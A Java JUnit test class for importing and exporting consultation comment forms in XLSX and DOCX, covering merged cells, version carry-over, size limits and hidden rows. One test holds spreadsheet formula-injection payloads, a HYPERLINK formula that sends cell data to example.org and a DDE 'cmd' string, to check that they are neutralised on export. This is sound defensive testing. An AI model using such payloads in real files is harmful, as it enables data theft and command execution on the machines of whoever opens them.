package org.danaya.consultation.observation.form;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.stream.IntStream;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.danaya.base.Fault;
import org.danaya.consultation.Stage;
import org.danaya.consultation.TestTexts;
import org.danaya.consultation.TextVersion;
import org.danaya.consultation.observation.Anchor;
import org.danaya.consultation.observation.Observation;
import org.danaya.consultation.observation.Referral;
import org.danaya.consultation.observation.TestObservations;
import org.danaya.form.Upload;
import org.danaya.mandates.Scope;
import org.danaya.text.docx.DocxWriter;
import org.danaya.text.flow.Block;
import org.danaya.text.flow.Flow;
import org.danaya.text.flow.Grid;
import org.danaya.text.flow.Line;
import org.danaya.text.flow.Place;
import org.danaya.text.flow.Role;
import org.danaya.text.flow.Run;
import org.danaya.verify.mandate.Power;
import org.danaya.verify.mandate.Powers;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;

/** Forms that are filled in as nobody meant them to be, for a text that has moved on. */
class HostileFormsTest {

    private static final String[] HEADS = {
        "MB/NC", "Line", "Clause", "Paragraph", "Type", "Comments", "Proposed change"
    };

    private final TestObservations kit = new TestObservations();
    private final UUID account = UUID.randomUUID();
    private final Referral referral = kit.asked(15);
    private final CommentForms forms = TestForms.of(kit);

    private FormPreview read(Referral about, byte[] file) {
        UUID id = forms.understand(account, about.id(), new Upload("formulaire", file));
        return forms.preview(account, about.id(), id);
    }

    private static byte[] sheet(Consumer<Worksheet> filled) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (Workbook book = new Workbook(out, "Essai", null)) {
            Worksheet sheet = book.newWorksheet("F");
            for (int column = 0; column < HEADS.length; column++) {
                sheet.value(0, column, HEADS[column]);
            }
            filled.accept(sheet);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static List<String> places(FormPreview preview) {
        return preview.rows().stream().map(row -> row.said().anchor().label()).toList();
    }

    private static List<String> comments(FormPreview preview) {
        return preview.rows().stream()
                .map(row -> row.said().words().orElseThrow().comment())
                .toList();
    }

    @Test
    void whatAMergedCellSaysIsSaidInEachOfItsRows() {
        FormPreview preview =
                read(
                        referral,
                        sheet(
                                sheet -> {
                                    sheet.value(1, 2, "Article 2");
                                    sheet.value(1, 4, "ge");
                                    sheet.range(1, 2, 3, 2).merge();
                                    sheet.range(1, 4, 3, 4).merge();
                                    sheet.value(1, 5, "Première");
                                    sheet.value(2, 5, "Deuxième");
                                    sheet.value(3, 5, "Troisième");
                                    sheet.value(5, 2, "Article 3");
                                    sheet.value(5, 5, "Sur deux lignes vides");
                                    sheet.range(5, 2, 7, 2).merge();
                                    sheet.range(5, 5, 7, 5).merge();
                                }));
        assertThat(places(preview))
                .containsExactly("Article 2", "Article 2", "Article 2", "Article 3");
        assertThat(comments(preview))
                .containsExactly("Première", "Deuxième", "Troisième", "Sur deux lignes vides");
    }

    @Test
    void mergedCellsOfAWordTableAreRead() {
        List<Grid.Row> rows =
                List.of(
                        row(cell(1, "Clause"), cell(1, "Type"), cell(1, "Comments")),
                        row(cell(2, "Article 2"), cell(1, "te"), cell(1, "Première")),
                        row(cell(1, "ed"), cell(1, "Deuxième")));
        List<Block> blocks = List.of(new Grid(Place.NOWHERE, 0, rows));
        FormPreview preview = read(referral, DocxWriter.write(new Flow("fr", "Essai", blocks)));
        assertThat(places(preview)).containsExactly("Article 2", "Article 2");
        assertThat(comments(preview)).containsExactly("Première", "Deuxième");
    }

    private static Grid.Row row(Grid.Cell... cells) {
        return new Grid.Row(false, List.of(cells));
    }

    private static Grid.Cell cell(int rows, String text) {
        return new Grid.Cell(1, rows, List.of(Line.of(Role.BODY, 0, "", List.of(Run.of(text)))));
    }

    @Test
    void numbersAndDaysThatWereClausesAreNotMistakenForOthers() {
        FormPreview preview =
                read(
                        referral,
                        sheet(
                                sheet -> {
                                    sheet.value(1, 2, 3.1);
                                    sheet.style(1, 2).format("0.00").set();
                                    sheet.value(1, 5, "Trois dix");
                                    sheet.value(2, 2, "2026-02-03");
                                    sheet.value(2, 5, "Un jour en toutes lettres");
                                    sheet.value(3, 2, "03/02/2026");
                                    sheet.value(3, 5, "Un autre");
                                    sheet.value(4, 2, "févr-26");
                                    sheet.value(4, 5, "Un mois");
                                }));
        assertThat(preview.unplaced()).isEqualTo(4);
        assertThat(places(preview)).containsExactly("3.10", "2026-02-03", "03/02/2026", "févr-26");
    }

    @Test
    void wordsThatAreNotInTheTextAnyMoreWaitForSomebody() {
        FormPreview preview =
                read(
                        referral,
                        sheet(
                                sheet -> {
                                    sheet.value(1, 2, "Article 2");
                                    sheet.value(1, 3, "« un délai de neuf mois »");
                                    sheet.value(1, 5, "Trop long");
                                }));
        assertThat(preview.rows().getFirst().said().anchor())
                .isEqualTo(new Anchor.Unplaced("Article 2, « un délai de neuf mois »"));
    }

    @Test
    void aFormForAnEarlierVersionIsCarriedOverOrWaits() {
        byte[] file =
                FormWriter.xlsx(
                        TestForms.own(
                                kit,
                                List.of(
                                        draft("Gratuit pour qui ?", kit.span("gratuit")),
                                        draft("Trop long", kit.span("trente jours")),
                                        draft("À supprimer", kit.span("prestataires")),
                                        draft("Bon texte", new Anchor.Whole()))));
        TextVersion next =
                kit.texts.at(
                        Stage.IN_CONSULTATION,
                        kit.dossier,
                        TestTexts.akn(
                                List.of(
                                        TestObservations.ARTICLES.getFirst(),
                                        List.of(
                                                "Un incident est signalé dans un délai de dix jours.",
                                                "Sans frais, le signalement est gratuit."))));
        Referral again =
                kit.observations
                        .referrals()
                        .ask(account, next.id(), List.of(kit.ministry()), kit.in(15))
                        .asked()
                        .getFirst();
        FormPreview preview = read(again, file);
        assertThat(preview.otherVersion()).contains(kit.version.head().number());
        assertThat(preview.rows()).hasSize(4);
        Anchor free = preview.rows().get(0).said().anchor();
        assertThat(free)
                .isInstanceOfSatisfying(
                        Anchor.OnSpan.class,
                        span -> {
                            assertThat(span.quote()).isEqualTo("gratuit");
                            assertThat(span.prefix()).endsWith("le signalement est ");
                        });
        assertThat(preview.rows().get(1).said().anchor()).isInstanceOf(Anchor.Unplaced.class);
        assertThat(preview.rows().get(1).said().anchor().label())
                .contains("Article 2", "trente jours");
        assertThat(preview.rows().get(2).said().anchor()).isInstanceOf(Anchor.Unplaced.class);
        assertThat(preview.rows().get(3).said().anchor()).isEqualTo(new Anchor.Whole());
        assertThat(forms.take(account, again.id(), preview.id())).isEqualTo(4);
    }

    private Observation.Draft draft(String comment, Anchor anchor) {
        return kit.observations
                .drafts()
                .write(account, referral.id(), TestObservations.said(comment, anchor));
    }

    @Test
    void formulasGoOutAndComeInAsText() throws IOException {
        List<String> evil =
                List.of(
                        "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
                        "+1+cmd|' /C calc'!A0",
                        "-2+3",
                        "@SUM(1;1)",
                        "\t=1+1");
        evil.forEach(text -> draft(text, new Anchor.Whole()));
        byte[] file =
                FormWriter.xlsx(TestForms.own(kit, kit.observations.drafts().of(referral.id())));
        assertThat(part(file, "xl/worksheets/sheet1.xml"))
                .contains("HYPERLINK")
                .doesNotContain("<f>", "<f ", "<hyperlink");
        FormPreview preview = read(referral, file);
        assertThat(comments(preview))
                .containsExactlyElementsOf(evil.stream().map(String::strip).toList());
        byte[] formula =
                sheet(
                        sheet -> {
                            sheet.value(1, 2, "Article 1");
                            sheet.formula(1, 5, "CONCATENATE(\"Calc\",\"ulée\")");
                        });
        FormPreview computed = read(referral, formula);
        assertThat(computed.rows().size() + computed.left().size()).isEqualTo(2);
    }

    private static String part(byte[] file, String name) throws IOException {
        try (ZipFile zip = ZipFile.builder().setByteArray(file).get();
                InputStream in = zip.getInputStream(zip.getEntry(name))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void aHundredThousandRowsAreRefusedWithTheirLimit() {
        byte[] file =
                sheet(
                        sheet ->
                                IntStream.range(1, 100_001)
                                        .forEach(row -> sheet.value(row, 5, "Ligne")));
        assertThatThrownBy(() -> ReadForm.read(file))
                .isInstanceOfSatisfying(
                        Fault.class,
                        fault -> assertThat(fault.code()).isEqualTo(CommentFormFault.TOO_LARGE));
    }

    /** A file that was taken away by somebody who may not read all of it says so, and no more. */
    @Test
    void wordsThatWereHiddenAreNoObservation() {
        Observation.Draft secret = draft(FormWriter.HIDDEN, new Anchor.Whole());
        FormPreview preview = read(referral, FormWriter.xlsx(TestForms.own(kit, List.of(secret))));
        assertThat(preview.added()).isZero();
        assertThat(preview.left())
                .extracting(FormPreview.Left::reason)
                .containsExactly("heading", "heading", "hidden");
    }

    @Test
    void whatWasHandedInIsKnownAgain() {
        kit.kit.office(Powers.of(Power.SUBMIT_OBSERVATION), Scope.OPEN, 0);
        draft("Une fois", kit.span("gratuit"));
        byte[] file =
                FormWriter.xlsx(TestForms.own(kit, kit.observations.drafts().of(referral.id())));
        kit.submit(kit.minister, referral);
        FormPreview preview = read(referral, file);
        assertThat(preview.before()).isOne();
        assertThat(preview.added()).isZero();
    }

    @Test
    void whereSomethingStoodInAFormIsInWhatIsSigned() {
        kit.kit.office(Powers.of(Power.SUBMIT_OBSERVATION), Scope.OPEN, 0);
        FormPreview preview =
                read(
                        referral,
                        sheet(
                                sheet -> {
                                    sheet.value(1, 2, "Article 2");
                                    sheet.value(1, 3, "Tableau 4");
                                    sheet.value(1, 5, "Sur le tableau");
                                }));
        forms.take(account, referral.id(), preview.id());
        byte[] content = kit.observations.register().content(kit.submit(kit.minister, referral));
        assertThat(new String(content, StandardCharsets.UTF_8)).contains("Tableau 4");
    }

    @Test
    void everyRowIsToldOrTaken() {
        List<Integer> said = new ArrayList<>();
        byte[] file =
                sheet(
                        sheet -> {
                            for (int row = 1; row <= 200; row++) {
                                if (row % 3 != 0) {
                                    sheet.value(row, 2, row % 5 == 0 ? "??" : "Article " + row % 4);
                                }
                                if (row % 7 != 0) {
                                    sheet.value(row, 5, "Ligne " + row);
                                }
                                if (row % 3 != 0 || row % 7 != 0) {
                                    said.add(row);
                                }
                            }
                        });
        FormPreview preview = read(referral, file);
        assertThat(preview.rows().size() + preview.left().size()).isEqualTo(said.size() + 1);
        assertThat(forms.take(account, referral.id(), preview.id()))
                .isEqualTo(preview.rows().size());
        Optional<Observation.Draft> last =
                kit.observations.drafts().of(referral.id()).stream().reduce((_, each) -> each);
        assertThat(last.orElseThrow().row().orElseThrow()).contains("201");
    }
}
